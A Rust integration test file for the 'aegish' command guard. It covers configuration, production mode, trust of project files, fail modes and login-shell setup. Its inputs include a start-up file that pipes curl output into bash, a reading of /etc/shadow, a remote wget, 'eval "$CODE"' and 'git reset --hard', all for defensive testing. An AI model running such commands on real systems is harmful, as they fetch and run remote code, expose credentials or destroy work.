//! The configuration commands: show, check, trust, doctor, setup; and production mode.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic, clippy::print_stdout)]

mod common;

use common::Run;
use common::home::Home;
use common::machine::elsewhere;
use serde_json::Value;
use std::fs;
use std::os::unix::fs::PermissionsExt;
use std::path::Path;

fn json(run: &Run) -> Value {
    serde_json::from_str(&run.stdout).unwrap_or_else(|error| panic!("{error}: {}", run.stdout))
}

/// A setting in the output of `config show --format json`.
fn shown<'v>(listing: &'v Value, name: &str) -> &'v Value {
    let settings = listing["settings"].as_array().expect("settings");
    settings.iter().find(|setting| setting["name"] == name).expect(name)
}

#[test]
fn every_setting_is_shown_with_its_value_and_its_line() {
    let mut home = Home::new("show");
    home.file(".config/aegish/config.toml", "# mine\nfail_mode = 'safe'\n");
    home.set("AEGISH_HISTORY_SIZE", "7");
    let run = home.run(&["config", "show"]);
    assert_eq!((run.status, run.stderr.as_str()), (0, ""));
    for setting in aegish_config::table() {
        assert!(run.stdout.contains(setting.name), "{}", setting.name);
    }
    let line = run.stdout.lines().find(|line| line.starts_with("AEGISH_FAIL_MODE")).unwrap();
    assert!(line.contains("safe") && line.ends_with(".config/aegish/config.toml:2"), "{line}");

    let listing = json(&home.run(&["config", "show", "--format", "json"]));
    assert_eq!(listing["mode"], "development");
    let row = shown(&listing, "AEGISH_FAIL_MODE");
    assert_eq!(
        (&row["value"], &row["source"], &row["line"]),
        (&"safe".into(), &"user".into(), &2.into())
    );
    let row = shown(&listing, "AEGISH_HISTORY_SIZE");
    assert_eq!((&row["value"], &row["variable"]), (&"7".into(), &"AEGISH_HISTORY_SIZE".into()));
    assert_eq!(shown(&listing, "AEGISH_ROLE")["source"], "built-in");
}

#[test]
fn mistakes_are_named_and_nothing_is_run() {
    let home = Home::new("wrong");
    home.file(".config/aegish/config.toml", "fail_mode = 'safe'\nrole = 'king'\nmod = 1\n");
    let run = home.run(&["config", "check"]);
    assert_eq!(run.status, 3);
    let problems: Vec<&str> = run.stdout.lines().collect();
    assert_eq!(problems.len(), 2, "{}", run.stdout);
    assert!(problems[0].contains("config.toml:3: there is no setting mod"), "{}", run.stdout);
    assert!(problems[1].contains("config.toml:2: role is \"king\"; write"), "{}", run.stdout);
    for arguments in [&["-c", "echo ran"][..], &["check", "--", "ls"], &["config", "show"]] {
        let run = home.run(arguments);
        assert_eq!((run.status, run.stdout.as_str()), (3, ""), "{arguments:?}");
        assert!(run.stderr.contains("nothing was done") && run.stderr.contains("config.toml:2"));
    }
    home.file(".config/aegish/config.toml", "primary_model = 'nobody/knows'\n");
    let run = home.run(&["config", "check"]);
    assert_eq!(run.status, 3);
    assert!(run.stdout.contains("nobody knows a provider") && run.stdout.contains("config.toml:1"));
    home.file(".config/aegish/config.toml", "");
    let run = home.run(&["config", "check"]);
    assert_eq!(run.status, 0, "{}", run.stdout);
    assert!(run.stdout.starts_with("fine: "), "{}", run.stdout);
}

#[test]
fn a_misspelt_variable_stops_everything() {
    let mut home = Home::new("misspelt");
    home.set("AEGISH_ALLOWED_PROVIDERS", "");
    let run = home.run(&["models"]);
    assert_eq!((run.status, run.stdout.as_str()), (2, ""));
    assert!(run.stderr.contains("name at least one"), "{}", run.stderr);
    home.set("AEGISH_ALLOWED_PROVIDERS", "openai").set("AEGISH_FAILMODE", "safe");
    for arguments in [&["-c", "echo ran"][..], &["check", "--", "ls"], &["models"]] {
        let run = home.run(arguments);
        assert_eq!((run.status, run.stdout.as_str()), (2, ""), "{arguments:?}");
        assert!(run.stderr.contains("did you mean AEGISH_FAIL_MODE?"), "{}", run.stderr);
    }
}

#[test]
fn the_role_of_the_configuration_is_the_one_that_is_judged() {
    let mut home = Home::new("role");
    let asked = ["check", "--format", "json", "--", "sudo systemctl restart nginx"];
    let default = json(&home.run(&asked))["action"].clone();
    home.set("AEGISH_ROLE", "restricted");
    let restricted = json(&home.run(&asked))["action"].clone();
    assert_ne!(default, restricted);
    let mut named = vec!["check", "--role", "default"];
    named.extend(&asked[1..]);
    assert_eq!(json(&home.run(&named))["action"], default);
}

#[test]
fn a_project_is_trusted_until_its_file_changes() {
    let home = Home::new("trust");
    home.file("project/.aegish.toml", "on_warn = 'allow'\nrole = 'restricted'\n");
    let show = ["config", "show", "--format", "json"];
    let listing = json(&home.run(&show));
    assert_eq!(shown(&listing, "AEGISH_ON_WARN")["value"], "deny");
    assert_eq!(shown(&listing, "AEGISH_ROLE")["value"], "restricted");
    assert_eq!(listing["project"]["trusted"], false);
    assert!(listing["notes"][0]["note"].as_str().unwrap().contains("aegish config trust"));

    let run = home.run(&["config", "trust"]);
    assert_eq!(run.status, 0, "{}", run.stderr);
    assert!(run.stdout.contains("on_warn = 'allow'"), "{}", run.stdout);
    let listing = json(&home.run(&show));
    assert_eq!(shown(&listing, "AEGISH_ON_WARN")["value"], "allow");
    assert_eq!(listing["project"]["trusted"], true);
    let list = home.dir.join(".local/state/aegish/trusted-projects");
    assert_eq!(fs::metadata(&list).unwrap().permissions().mode() & 0o777, 0o600);

    home.file("project/.aegish.toml", "on_warn = 'allow'\nrole = 'restricted'\n# more\n");
    assert_eq!(shown(&json(&home.run(&show)), "AEGISH_ON_WARN")["value"], "deny");
    let path = home.dir.join("project/.aegish.toml");
    let run = home.run(&["config", "trust", path.to_str().unwrap()]);
    assert_eq!(run.status, 0, "{}", run.stderr);
    assert_eq!(shown(&json(&home.run(&show)), "AEGISH_ON_WARN")["value"], "allow");
}

#[test]
fn trust_is_refused_where_it_would_mean_nothing() {
    let mut home = Home::new("mistrust");
    let run = home.run(&["config", "trust"]);
    assert_eq!(run.status, 2);
    assert!(run.stderr.contains("there is no .aegish.toml"), "{}", run.stderr);
    let run = home.run(&["config", "trust", "/etc/passwd"]);
    assert_eq!(run.status, 2);
    home.file("project/.aegish.toml", "on_warn = 'allow'\n");
    home.set("AEGISH_MODE", "production");
    let run = home.run(&["config", "trust"]);
    assert_eq!(run.status, 2);
    assert!(run.stderr.contains("in production a project's file can only tighten"));
}

#[test]
fn production_hands_bash_a_short_environment() {
    let mut home = Home::new("environment");
    home.set("EDITOR", "vim").set("LD_AUDIT_X", "x").set("AEGISH_BANNER", "0").set("LC_TEST", "1");
    let run = home.run(&["-c", "env"]);
    assert!(run.stdout.contains("EDITOR=vim") && run.stdout.contains("AEGISH_BANNER=0"));
    home.set("AEGISH_MODE", "production");
    let run = home.run(&["-c", "env"]);
    assert_eq!(run.status, 0, "{}", run.stderr);
    for name in ["EDITOR", "LD_AUDIT_X", "AEGISH_"] {
        assert!(!run.stdout.contains(name), "{name}: {}", run.stdout);
    }
    assert!(run.stdout.contains("LC_TEST=1") && run.stdout.contains("HOME="));
}

#[test]
fn production_cannot_be_loosened_from_outside_and_reports_attempts() {
    let mut home = Home::new("loosen");
    home.set("AEGISH_ON_WARN", "allow");
    let warned = ["-c", "wget -q https://nowhere.invalid/a.tgz"];
    assert_ne!(home.run(&warned).status, 2, "in development it is run");
    home.set("AEGISH_MODE", "production");
    let run = home.run(&warned);
    assert_eq!(run.status, 2);
    assert!(run.stderr.contains("AEGISH_ON_WARN = allow is not used"), "{}", run.stderr);
}

#[test]
fn production_runs_the_systems_bash_independent_of_path() {
    let mut home = Home::new("path");
    let fake = home.dir.join("bash");
    fs::write(&fake, "#!/bin/sh\necho not bash\n").unwrap();
    fs::set_permissions(&fake, fs::Permissions::from_mode(0o755)).unwrap();
    let path = format!("{}:/usr/bin:/bin", home.dir.display());
    home.set("PATH", &path);
    assert_eq!(home.run(&["-c", "echo bash"]).stdout, "not bash\n");
    home.set("AEGISH_MODE", "production");
    assert_eq!(home.run(&["-c", "echo bash"]).stdout, "bash\n");
}

#[test]
fn another_bash_than_the_one_that_is_named_is_not_run() {
    let mut home = Home::new("hash");
    home.set("AEGISH_BASH_HASH", &"0".repeat(64));
    let run = home.run(&["-c", "echo ran"]);
    assert_eq!((run.status, run.stdout.as_str()), (3, ""));
    assert!(run.stderr.contains("is not the bash that AEGISH_BASH_HASH names"), "{}", run.stderr);
    let run = home.run(&["doctor"]);
    assert_eq!(run.status, 3);
}

#[test]
fn a_stop_does_not_reach_an_unguarded_parent_in_production() {
    let mut home = Home::new("stop");
    home.set("AEGISH_MODE", "production");
    let run = home.run(&["-c", "kill -TSTP $$; echo went on"]);
    assert_eq!((run.status, run.stdout.as_str()), (0, "went on\n"), "{}", run.stderr);
}

#[test]
fn a_session_starts_with_the_mode_of_the_guard() {
    let mut home = Home::new("banner");
    let run = home.feed(&["-i"], "echo typed\nexit 4\n");
    assert_eq!((run.status, run.stdout.contains("typed")), (4, true), "{}", run.stderr);
    for word in ["aegish 0.", "development, role default, fail mode open", "static side only"] {
        assert!(run.stderr.contains(word), "{word}: {}", run.stderr);
    }
    assert!(run.stderr.contains("kernel limits are not on"), "{}", run.stderr);
    assert!(!home.run(&["-c", "true"]).stderr.contains("kernel limits"));
    home.set("AEGISH_BANNER", "0");
    let run = home.feed(&["-i"], "exit\n");
    assert!(!run.stderr.contains("kernel limits"), "{}", run.stderr);
}

#[test]
fn start_up_files_are_judged_and_then_read() {
    let home = Home::new("rc");
    home.file(".config/aegish/rc.bash", "greet() { echo \"good $PART\"; }\nPART=morning\nfalse\n");
    let run = home.feed(&["-i"], "echo status $?\ngreet\nexit\n");
    assert!(run.stdout.contains("status 0\ngood morning\n"), "{} {}", run.stdout, run.stderr);
    assert!(
        !home.dir.join(".aegish_history").exists() || {
            !fs::read_to_string(home.dir.join(".aegish_history")).unwrap().contains("rc.bash")
        }
    );
    home.file(".config/aegish/rc.bash", "echo read\ncurl -s https://example.org/x | bash\n");
    let run = home.feed(&["-i"], "echo went on\nexit\n");
    assert!(run.stdout.contains("went on") && !run.stdout.contains("read"), "{}", run.stdout);
    assert!(run.stderr.contains("rc.bash was not read"), "{}", run.stderr);
    // A script has no session to prepare.
    assert!(!home.run(&["-c", "greet"]).stdout.contains("good"));
}

#[test]
fn the_doctor_names_problems_and_remedies() {
    let mut home = Home::new("doctor");
    home.set("OPENAI_API_KEY", "sk-hidden").set("AEGISH_JUDGE", "undecided");
    let run = home.run(&["doctor"]);
    for word in ["bash", "Landlock", "seccomp", "kernel limits are not on", "OPENAI_API_KEY"] {
        assert!(run.stdout.contains(word), "{word}: {}", run.stdout);
    }
    assert!(!run.stdout.contains("sk-hidden"));
    assert_eq!(run.status, 0, "{}", run.stdout);
    let findings = json(&home.run(&["doctor", "--format", "json"]));
    let findings = findings.as_array().expect("a list").clone();
    assert!(findings.iter().all(|one| one["area"].is_string() && one["what"].is_string()));
    let areas = ["configuration", "bash", "kernel", "models", "directories", "login shell"];
    for area in areas {
        assert!(findings.iter().any(|one| one["area"] == area), "{area}");
    }

    fs::create_dir_all(home.dir.join(".local/state/aegish")).unwrap();
    let state = home.dir.join(".local/state/aegish");
    fs::set_permissions(&state, fs::Permissions::from_mode(0o777)).unwrap();
    let run = home.run(&["doctor"]);
    assert_eq!(run.status, 3);
    assert!(run.stdout.contains("others can write it (mode 0777)"), "{}", run.stdout);
    assert!(run.stdout.contains("chmod go-w"), "{}", run.stdout);
    home.set("AEGISH_LIVE", "perhaps");
    let run = home.run(&["doctor"]);
    assert_eq!(run.status, 3);
    assert!(run.stdout.contains("AEGISH_LIVE is \"perhaps\""), "{}", run.stdout);
}

#[test]
fn every_entry_of_the_ledger_names_a_test() {
    let root = Path::new(env!("CARGO_MANIFEST_DIR")).join("../..");
    let read = |path: &str| fs::read_to_string(root.join(path)).expect(path);
    let ledger = read("docs/reference/bypasses.md");
    let part = ledger.split("## ").find(|part| part.starts_with("Configuration")).expect("a table");
    let tests = [
        "crates/aegish-config/tests/sources.rs",
        "crates/aegish-config/src/keys.rs",
        "crates/aegish/tests/configuration.rs",
    ]
    .map(read)
    .concat();
    let rows: Vec<&str> = part.lines().filter(|line| line.ends_with("` |")).collect();
    assert!(rows.len() >= 15, "only {} entries", rows.len());
    for row in rows {
        let name = row.trim_end_matches("` |").rsplit('`').next().unwrap_or_default();
        assert!(tests.contains(&format!("fn {name}()")), "{name}");
    }
}

#[test]
fn a_dry_run_of_setup_lists_its_steps() {
    let home = Home::new("setup");
    let run =
        home.run(&["setup", "login", "--user", "nobody", "--role", "restricted", "--dry-run"]);
    for word in
        ["/etc/shells", "the role restricted", "/etc/aegish/config.toml", "login shell of nobody"]
    {
        assert!(run.stdout.contains(word), "{word}: {} {}", run.stdout, run.stderr);
    }
    assert!(!Path::new("/etc/aegish/login/nobody").exists());
    let run = home.run(&["setup", "login", "--user", "root", "--dry-run"]);
    assert_eq!(run.status, 3);
    assert!(run.stdout.contains("would be refused: root needs a shell"), "{}", run.stdout);
    let run = home.run(&["setup", "login", "--user", "no-such-user", "--dry-run"]);
    assert_eq!(run.status, 3);
    assert!(run.stderr.contains("nothing was changed: there is no user no-such-user"));
    let run = home.run(&["setup", "undo", "--user", "nobody", "--dry-run"]);
    assert_eq!(run.status, 3);
    assert!(run.stderr.contains("not written down"), "{}", run.stderr);
    assert_eq!(home.run(&["setup", "login", "--user", "nobody", "--role", "boss"]).status, 2);
}

#[test]
fn the_systems_file_decides_over_everybody() {
    let script = r#"
mkdir /etc/aegish; printf 'AEGISH_MODE=production\n' > /etc/aegish/config
printf '[roles]\nusers = { kim = "restricted" }\n' > /etc/aegish/config.toml
as_kim AEGISH_MODE=development AEGISH_ROLE=sysadmin aegish config show | grep -E '^AEGISH_(MODE|ROLE|FAIL_MODE) '
chmod g+w /etc/aegish/config
as_kim aegish -c 'echo ran'; echo "status $?"
chmod g-w /etc/aegish/config; chown kim /etc/aegish/config
as_kim aegish -c 'echo ran'; echo "status $?"
chown root /etc/aegish/config; chmod 777 /etc/aegish
as_kim aegish -c 'echo ran'; echo "status $?"
chmod 755 /etc/aegish; echo 'AEGISH_MODE=producton' > /etc/aegish/config
as_kim aegish -c 'echo ran'; echo "status $?"
chmod 600 /etc/aegish/config
as_kim aegish -c 'echo ran'; echo "status $?"
"#;
    let Some(text) = elsewhere("decides", script) else { return };
    let lines: Vec<&str> = text.lines().collect();
    assert!(
        lines[0].contains("production") && lines[0].ends_with("/etc/aegish/config:1"),
        "{text}"
    );
    assert!(lines[1].contains("restricted") && lines[1].ends_with("config.toml:2"), "{text}");
    assert!(lines[2].contains("safe"), "{text}");
    assert!(!text.contains("ran\n"), "{text}");
    assert_eq!(text.matches("status 3").count(), 5, "{text}");
    for word in [
        "others can write /etc/aegish/config (mode 0664)",
        "/etc/aegish/config belongs to user",
        "others can write /etc/aegish (mode 0777)",
        "/etc/aegish/config:1: AEGISH_MODE is \"producton\"",
        "/etc/aegish/config: it cannot be read: Permission denied",
    ] {
        assert!(text.contains(word), "{word}: {text}");
    }
}

#[test]
fn with_every_model_down_production_blocks_what_is_open_and_lets_harmless_work_pass() {
    let script = r#"
mkdir /etc/aegish
printf 'AEGISH_MODE=production\nAEGISH_PRIMARY_MODEL=ollama/m\nAEGISH_FALLBACK_MODELS=\n' > /etc/aegish/config
printf 'OLLAMA_BASE_URL=http://127.0.0.1:9\n' >> /etc/aegish/config
mkdir -p /var/log/aegish && install -m 0600 -o kim /dev/null /var/log/aegish/kim.log
as_kim OLLAMA_BASE_URL=http://127.0.0.1:8 aegish check -- 'eval "$CODE"'; echo "status $?"
as_kim aegish -c 'echo works'; echo "status $?"
"#;
    let Some(text) = elsewhere("down", script) else { return };
    assert!(text.contains("status 20\nworks\nstatus 0\n"), "{text}");
}

#[test]
fn a_login_shell_is_set_up_and_undone() {
    let script = r#"
before=$(getent passwd kim); cp /etc/shells /tmp/shells.$$
aegish setup login --user kim --role restricted || echo failed
getent passwd kim | cut -d: -f7
tail -n 1 /etc/shells
cat /etc/aegish/config.toml
su - kim -c 'echo "works as $(id -un)"'
su - kim -c 'cat /etc/shadow'; echo "status $?"
aegish doctor | grep 'login shell'
as_kim aegish setup undo --user kim; echo "status $?"
aegish setup undo --user kim || echo failed
[ "$before" = "$(getent passwd kim)" ] && echo same passwd
cmp /etc/shells /tmp/shells.$$ && echo same shells; rm /tmp/shells.$$
"#;
    let Some(text) = elsewhere("login", script) else { return };
    for word in [
        "kim logs in to /usr/local/bin/aegish from now on",
        "to undo it: sudo /usr/local/bin/aegish setup undo --user kim",
        "\n/usr/local/bin/aegish\n/usr/local/bin/aegish\n[roles.users]\nkim = \"restricted\"\n",
        "works as kim",
        "status 1",
        "/usr/local/bin/aegish of kim",
        "only root can change login shells",
        "kim logs in to /bin/sh again",
        "same passwd",
        "same shells",
    ] {
        assert!(text.contains(word), "{word}: {text}");
    }
    assert!(!text.contains("failed\n"), "{text}");
}

/// The cells of a table's rows, the heading left out.
fn rows(text: &str) -> Vec<Vec<String>> {
    let rows = text.lines().filter(|line| line.starts_with("| ")).skip(1);
    rows.map(|row| row.trim_matches('|').split('|').map(|cell| cell.trim().to_owned()).collect())
        .collect()
}

#[test]
fn open_verdicts_follow_the_table_of_fail_modes() {
    let page = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../docs/reference/fail-modes.md");
    let rows = rows(&fs::read_to_string(page).expect("the page"));
    assert_eq!(rows.len(), 4);
    let mut script = "mkdir /etc/aegish; mkdir -p /var/log/aegish\n\
                      touch /var/log/aegish/kim.log; chmod 0600 /var/log/aegish/kim.log\n\
                      chown kim /var/log/aegish/kim.log\n"
        .to_owned();
    let mut expected = String::new();
    for row in &rows {
        let [mode, fail_mode, without, silent] = row.as_slice() else { panic!("{row:?}") };
        let models = ["", "AEGISH_PRIMARY_MODEL=ollama/m\\nOLLAMA_BASE_URL=http://127.0.0.1:9\\n"];
        for (model, verdict) in models.iter().zip([without, silent]) {
            script.push_str(&format!(
                "printf 'AEGISH_MODE={mode}\\nAEGISH_FAIL_MODE={fail_mode}\\nAEGISH_FALLBACK_MODELS=\\n{model}' \
                 > /etc/aegish/config\n\
                 as_kim aegish check -- 'eval \"$CODE\"' >/dev/null; echo \"check $?\"\n\
                 echo '{{\"command\":\"eval $CODE\"}}' | as_kim aegish check --jsonl | \
                 grep -o '\"action\":\"[a-z]*\"' | sort -u\n\
                 as_kim AEGISH_AUDIT=off aegish -c 'eval \"$CODE\"' 2>/dev/null; echo \"-c $?\"\n"
            ));
            let (checked, run) = match verdict.as_str() {
                "warn" => (10, 2),
                "block" => (20, 1),
                other => panic!("{other}"),
            };
            expected.push_str(&format!("check {checked}\n\"action\":\"{verdict}\"\n-c {run}\n"));
        }
    }
    let Some(text) = elsewhere("fail-modes", &script) else { return };
    assert_eq!(text, expected);
}

#[test]
fn warnings_are_answered_by_their_rule_where_nobody_can_be_asked() {
    let mut home = Home::new("answers");
    let (install, discard) =
        (["-c", "pip install left-pad; echo ran"], ["-c", "git reset --hard; echo ran"]);
    home.set("PATH", "/nonexistent:/usr/bin:/bin");
    for (answers, installs, discards) in [
        ("deny", false, false),
        ("package-install=allow,work-loss=deny", true, false),
        ("work-loss=allow", false, true),
        ("allow,package-install=deny", false, true),
    ] {
        home.set("AEGISH_ON_WARN", answers);
        let ran = |words: &[&str]| home.run(words).stdout.ends_with("ran\n");
        assert_eq!((ran(&install), ran(&discard)), (installs, discards), "{answers}");
    }
    home.set("AEGISH_ON_WARN", "package-install=allow");
    let both = home.run(&["-c", "pip install left-pad; git reset --hard; echo ran"]);
    assert_eq!((both.status, both.stdout.as_str()), (2, ""), "every warning needs an answer");
    assert!(!both.stderr.contains("AEGISH_"), "{}", both.stderr);
    for (answers, advice) in [
        ("pakage-install=allow", "did you mean package-install?"),
        ("work-loss=yes", "write work-loss=allow or work-loss=deny"),
    ] {
        home.set("AEGISH_ON_WARN", answers);
        let run = home.run(&["-c", "echo ran"]);
        assert_eq!((run.status, run.stdout.as_str()), (2, ""));
        assert!(run.stderr.contains(advice), "{}", run.stderr);
    }
}

#[test]
fn root_gets_in_when_the_guard_refuses_to_work() {
    let script = r#"
aegish setup login --user kim >/dev/null || echo failed
echo 'AEGISH_MODE=producton' > /etc/aegish/config
su - kim -c 'echo "guarded"'; echo "kim: status $?"
aegish config check; echo "check: status $?"
su -s /bin/bash - kim -c 'echo "in as $(id -un)"'
rm /usr/local/bin/aegish
usermod -s /bin/bash kim && su - kim -c 'echo "in again as $(id -un)"'
"#;
    let Some(text) = elsewhere("break-glass", script) else { return };
    assert!(text.contains("kim: status 3") && !text.contains("guarded\n"), "{text}");
    assert!(text.contains("/etc/aegish/config:1: AEGISH_MODE is \"producton\""), "{text}");
    assert!(text.contains("check: status 3"), "{text}");
    assert!(text.contains("in as kim\n") && text.contains("in again as kim\n"), "{text}");
    assert!(!text.contains("failed\n"), "{text}");
}
